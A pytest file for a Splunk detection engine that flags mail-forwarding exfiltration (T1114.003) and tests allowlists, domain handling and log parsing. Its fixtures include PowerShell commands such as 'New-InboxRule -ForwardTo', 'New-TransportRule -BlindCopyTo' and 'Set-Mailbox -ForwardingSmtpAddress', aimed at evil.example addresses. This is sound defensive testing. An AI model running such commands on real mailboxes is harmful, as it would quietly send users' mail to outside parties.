"""Engine behaviour beyond single rules: allowlists, domains, shapes, output fields."""

import json

from app.finding import OUTPUT_FIELDS
from tests.splunk_shapes import extracted, raw_only

FORWARD_RULE = "t1114_003_inbox_rule_forward_cmdlet"


def inbox_rule(actor="mallory@contoso.com", forward_to="drop@exfil.example", **extra):
    audit = {
        "Operation": "New-InboxRule", "RecordType": 1, "UserType": 0, "Workload": "Exchange",
        "OrganizationName": "contoso.onmicrosoft.com", "UserId": actor, "ClientIP": "203.0.113.5:1234",
        "Parameters": [{"Name": "Name", "Value": "sync"}, {"Name": "ForwardTo", "Value": forward_to}],
    }
    audit.update(extra)
    return audit


def test_every_output_field_is_set_on_every_record(engine):
    quiet = {"sourcetype": "syslog", "_raw": "nothing to see"}
    noisy = raw_only(inbox_rule())
    for record in (quiet, noisy):
        engine.annotate(record)
        assert set(OUTPUT_FIELDS) <= set(record)
    assert quiet["t1114_status"] == "" and noisy["t1114_status"] == "finding"


def test_existing_cim_fields_are_kept(engine):
    record = raw_only(inbox_rule())
    record["user"] = "already-set"
    engine.annotate(record)
    assert record["user"] == "already-set"


def test_account_allowlist_suppresses_and_names_the_row(engine_with_lookups):
    engine = engine_with_lookups({"t1114_allowlist_accounts.csv":
                                  "account,rules,valid_from,valid_until,reason\n"
                                  "svc-other@contoso.com,,,,other\n"
                                  "mallory@*,%s,,,Mallory runs the partner mailbox sync (CHG-1234)\n" % FORWARD_RULE})
    record = raw_only(inbox_rule())
    assert engine.annotate(record) is False
    assert record["t1114_status"] == "suppressed"
    assert record["t1114_suppressed_rule"] == FORWARD_RULE
    assert record["t1114_suppressed_by"] == (
        "t1114_allowlist_accounts.csv line 3 (account=mallory@*, rules=%s): "
        "Mallory runs the partner mailbox sync (CHG-1234)" % FORWARD_RULE)
    # The summary of an event whose findings are all suppressed describes those findings.
    assert record["mitre_technique_id"] == "T1114.003" and record["t1114_rule"] == FORWARD_RULE
    # allowlist=false: the same event is a finding again
    again = raw_only(inbox_rule())
    assert engine.annotate(again, use_allowlist=False) is True
    assert again["t1114_rule"] == FORWARD_RULE and again["t1114_suppressed_by"] == ""


def test_allowlist_row_limited_to_other_rules_does_not_apply(engine_with_lookups):
    engine = engine_with_lookups({"t1114_allowlist_accounts.csv":
                                  "account,rules,valid_from,valid_until,reason\n"
                                  "mallory@contoso.com,t1114_003_mailbox_forwarding,,,only mailbox forwarding\n"})
    assert engine.annotate(raw_only(inbox_rule())) is True


def test_allowlist_time_window_uses_event_time(engine_with_lookups):
    engine = engine_with_lookups({"t1114_allowlist_accounts.csv":
                                  "account,rules,valid_from,valid_until,reason\n"
                                  "mallory@contoso.com,,2026-11-01,2026-11-30,migration window\n"})
    inside = raw_only(inbox_rule(), time="1796040000")   # 2026-11-30T12:00:00Z: last day of the window
    outside = raw_only(inbox_rule(), time="1796169600")  # 2026-12-02T00:00:00Z
    assert engine.annotate(inside) is False and inside["t1114_status"] == "suppressed"
    assert engine.annotate(outside) is True


def test_broken_allowlist_rows_are_reported_and_others_apply(engine_with_lookups):
    engine = engine_with_lookups({"t1114_allowlist_accounts.csv":
                                  "account,rules,valid_from,valid_until,reason\n"
                                  ",,,,no account\n"
                                  "*,,,,everything\n"
                                  "bob@contoso.com,,2026-13-45,,bad date\n"
                                  "carol@contoso.com,,,,\n"
                                  "mallory@contoso.com,,,,approved\n"})
    messages = engine.problems.messages()
    assert any("line 2" in m and "account" in m for m in messages)
    assert any("line 3" in m and "only wildcards" in m for m in messages)
    assert any("line 4" in m and "valid_from" in m and "not a date" in m for m in messages)
    assert any("line 5" in m and "reason" in m for m in messages)
    assert engine.annotate(raw_only(inbox_rule())) is False  # line 6 still applies


def test_lookup_with_wrong_header_is_ignored_with_a_message(engine_with_lookups):
    engine = engine_with_lookups({"t1114_allowlist_accounts.csv": "user,why\nmallory@contoso.com,x\n"})
    assert any("lacks the column" in m for m in engine.problems.messages())
    assert engine.annotate(raw_only(inbox_rule())) is True


def test_org_domains_make_destinations_internal(engine_with_lookups):
    engine = engine_with_lookups({"t1114_org_domains.csv": "\ufeffdomain,description\r\nexfil.example,ours\r\n*.partner.example,sub\r\n"})
    record = raw_only(inbox_rule())
    engine.annotate(record)
    assert record["t1114_external_destination"] == "" and record["t1114_severity"] == "medium"
    other = raw_only(inbox_rule(forward_to="x@eu.partner.example;y@evil.example"))
    engine.annotate(other)
    assert other["t1114_external_destination"] == "y@evil.example"


def test_own_domain_counts_as_internal_without_configuration(engine):
    record = raw_only(inbox_rule(forward_to="colleague@contoso.com"))
    engine.annotate(record)
    assert record["t1114_external_destination"] == "" and record["t1114_severity"] == "medium"
    sub = raw_only(inbox_rule(forward_to="a@mail.contoso.onmicrosoft.com"))
    engine.annotate(sub)
    assert sub["t1114_external_destination"] == ""


def test_raw_and_extracted_shapes_agree_even_when_extraction_misaligns(engine):
    # An empty parameter value is dropped by Splunk's multivalue extraction, so the Name and
    # Value lists differ in length; pairing them blindly would give ForwardingAddress the
    # Identity's value and invent a finding.
    audit = {"Operation": "Set-Mailbox", "RecordType": 1, "UserType": 2, "Workload": "Exchange",
             "UserId": "helpdesk@contoso.com",
             "Parameters": [{"Name": "ForwardingAddress", "Value": ""}, {"Name": "Identity", "Value": "bob"}]}
    raw, fields = raw_only(audit), extracted(audit)
    assert fields["Parameters{}.Name"] == ["ForwardingAddress", "Identity"] and fields["Parameters{}.Value"] == "bob"
    assert engine.detect(raw) == [] and engine.detect(fields) == []
    assert any("different lengths" in m for m in engine.problems.messages())


def test_fast_mode_raw_without_sourcetype_or_fields(engine):
    record = {"_raw": json.dumps(inbox_rule())}
    assert engine.annotate(record) is True


def test_severity_and_techniques_when_several_rules_fire(engine):
    script = ("New-InboxRule -Name a -ForwardTo x@evil.example\n"
              "New-TransportRule -Name b -BlindCopyTo y@evil.example\n")
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": script, "user": "admin"}
    engine.annotate(record)
    assert record["t1114_rule"] == ["t1114_003_inbox_rule_forward_cmdlet", "t1114_003_transport_rule_copy"]
    assert record["mitre_technique_id"] == "T1114.003"
    assert record["t1114_severity"] == "critical" and record["risk_score"] == "90"
    assert record["t1114_destination"] == ["x@evil.example", "y@evil.example"]


def test_script_block_from_raw_xml_when_fields_are_not_extracted(engine):
    raw = ("<Event><System><EventID>4104</EventID></System><EventData>"
           "<Data Name='ScriptBlockText'>Set-Mailbox bob -ForwardingSmtpAddress &quot;smtp:b@evil.example&quot;</Data>"
           "</EventData></Event>")
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
              "EventCode": "4104", "_raw": raw}
    assert engine.annotate(record) is True
    assert record["t1114_destination"] == "b@evil.example"


def test_a_failing_normaliser_passes_the_event_through(monkeypatch):
    import app.engine as engine_module
    from app.engine import Engine
    from tests.conftest import REPO

    engine = Engine.load(REPO)  # its own problem log, not the session engine's

    def explode(record, context):
        raise RuntimeError("boom")

    monkeypatch.setattr(engine_module, "normalise", explode)
    record = raw_only(inbox_rule())
    assert engine.annotate(record) is False
    assert record["t1114_status"] == "" and "_raw" in record
    assert any("RuntimeError" in m for m in engine.problems.messages())


def test_o365_raw_longer_than_64k_is_still_read_as_json(engine):
    # MailItemsAccessed records list every folder and message they touched; a real one can
    # pass 64 KB, and a _raw cut short is no longer JSON.
    audit = inbox_rule()
    audit["Padding"] = [{"FolderItems": [{"InternetMessageId": "<%d@contoso.com>" % i} for i in range(5000)]}]
    record = raw_only(audit)
    assert len(record["_raw"]) > 100000
    assert engine.annotate(record) is True and record["t1114_rule"] == "t1114_003_inbox_rule_forward_cmdlet"


def test_unclosed_quote_in_a_lookup_is_reported_with_its_line(engine_with_lookups):
    engine = engine_with_lookups({"t1114_allowlist_accounts.csv":
                                  "account,rules,valid_from,valid_until,reason\n"
                                  "mallory@contoso.com,,,,approved\n"
                                  'bob@contoso.com,,,,"unclosed reason\n'
                                  "carol@contoso.com,,,,approved\n"})
    messages = [m for m in engine.problems.messages() if "quote" in m]
    assert len(messages) == 1 and "line 3" in messages[0] and "lines 3-4" in messages[0]
    assert engine.annotate(raw_only(inbox_rule())) is False  # line 2 still applies
